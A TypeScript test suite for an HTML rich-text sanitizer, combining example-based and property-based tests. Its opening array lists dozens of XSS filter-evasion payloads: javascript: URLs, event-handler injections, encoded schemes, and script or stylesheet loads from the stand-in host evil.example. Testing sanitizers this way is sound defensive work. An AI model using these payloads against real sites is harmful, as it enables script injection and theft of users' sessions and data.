import fc from 'fast-check';
import { isSafeLink, richTextElements } from '../../src/model/richText';
import { cleanRichText } from '../../src/server/richText';

/** From the public lists of what has evaded filters (OWASP and others). */
const evasions: readonly string[] = [
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script>alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<BODY ONLOAD=alert(1)>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">click</math>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<BASE HREF="javascript:alert(1);//">',
  '<STYLE>@import"https://evil.example/x.css";</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<p style="width: expression(alert(1));">x</p>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD>x</TD></TABLE>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<? echo("<SCR)"; echo("IPT>alert(1)</SCRIPT>"); ?>',
  '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></XML>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/&#9;/evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="/x" onclick="alert(1)" style="x" target="_blank" id="x" class="x" name="x">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<p onclick=alert(1) data-x="1" is="x-y">x</p>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></select>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<p><b><i><u><script>alert(1)</script></u></i></b>',
  '<a href="x"><img src=x onerror=alert(1)></a>',
  '"><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  '</p><script>alert(1)</script>',
  '<p/onclick=alert(1)>x',
  '<\u0000script>alert(1)</script>',
  '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE',
];

const tag = /<[^>]*>/g;
const allowedTag = new RegExp(`^</?(?:${richTextElements.join('|')})(?: href="([^"<>]*)")?>$`);

const decoded = (attribute: string): string => attribute.replaceAll('&quot;', '"').replaceAll('&amp;', '&');

/** Holds a text to the grammar of what is allowed, which it either is or is not. */
const expectClean = (html: string): void => {
  for (const each of html.match(tag) ?? []) {
    expect(each).toMatch(allowedTag);
    const href = allowedTag.exec(each)?.[1];
    if (href !== undefined) expect(isSafeLink(decoded(href))).toBe(true);
  }
  expect(html.replace(tag, '')).not.toMatch(/[<>]/);
};

describe('cleaning rich text', () => {
  test.each(evasions.map((each) => [each]))('leaves nothing dangerous of %s', (html) => {
    expectClean(cleanRichText(html));
    expectClean(cleanRichText(`<p>before ${html} after</p>`));
  });

  test.each([
    [
      '<h1>Title</h1><div>Text <b>bold</b> <i>slanted</i></div>',
      '<h2>Title</h2><p>Text <strong>bold</strong> <em>slanted</em></p>',
    ],
    ['<p class="MsoNormal" style="margin:0"><span lang="FR">Mot</span><o:p></o:p></p>', '<p>Mot</p>'],
    ['<h4>a</h4><h6>b</h6>', '<h3>a</h3><h3>b</h3>'],
    ['a<br/>b', 'a<br>b'],
    ['<p>open', '<p>open</p>'],
    ['<table><tr><td>cell</td></tr></table>', 'cell'],
    ['3 < 4 & 5 > 4', '3 &lt; 4 &amp; 5 &gt; 4'],
    [
      '<a href="https://example.com/?a=1&b=2" target="_blank">x</a>',
      '<a href="https://example.com/?a=1&amp;b=2">x</a>',
    ],
    [
      '<a href="mailto:a@example.com">x</a><a href="tel:+18195550100">y</a>',
      '<a href="mailto:a@example.com">x</a><a href="tel:+18195550100">y</a>',
    ],
    ['<a href="javascript:x">x</a>', '<a>x</a>'],
  ])('makes of %s %s', (html, clean) => {
    expect(cleanRichText(html)).toBe(clean);
  });

  test('changes nothing of what is clean', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...evasions), fc.string()), { maxLength: 4 }),
        (parts) => {
          const clean = cleanRichText(parts.join(''));
          expectClean(clean);
          expect(cleanRichText(clean)).toBe(clean);
        },
      ),
      { numRuns: 500 },
    );
  });

  test('leaves what the editor writes byte for byte', () => {
    const escaped = fc
      .string({ unit: 'grapheme', maxLength: 20 })
      .map((text) => text.replaceAll('\0', '').replace(/\r\n?/g, '\n'))
      .map((text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'));
    const link = fc
      .webUrl({ withQueryParameters: true })
      .map((url) => url.replaceAll('&', '&amp;').replaceAll('"', '%22'));
    const mark = fc.constantFrom('strong', 'em', 'u');
    const inline = fc.oneof(
      escaped,
      fc.tuple(mark, escaped).map(([name, text]) => `<${name}>${text}</${name}>`),
      fc.tuple(mark, mark, escaped).map(([one, two, text]) => `<${one}><${two}>${text}</${two}></${one}>`),
      fc.tuple(link, escaped).map(([href, text]) => `<a href="${href}">${text}</a>`),
      fc.constant('<br>'),
    );
    const inlines = fc.array(inline, { maxLength: 4 }).map((parts) => parts.join(''));
    const block = fc.oneof(
      fc
        .tuple(fc.constantFrom('p', 'h2', 'h3', 'blockquote'), inlines)
        .map(([name, text]) => `<${name}>${text}</${name}>`),
      fc
        .tuple(fc.constantFrom('ul', 'ol'), fc.array(inlines, { minLength: 1, maxLength: 3 }))
        .map(([name, items]) => `<${name}>${items.map((item) => `<li>${item}</li>`).join('')}</${name}>`),
    );
    const documents = fc.array(block, { maxLength: 4 }).map((blocks) => blocks.join(''));
    fc.assert(
      fc.property(documents, (html) => expect(cleanRichText(html)).toBe(html)),
      { numRuns: 500 },
    );
  });
});
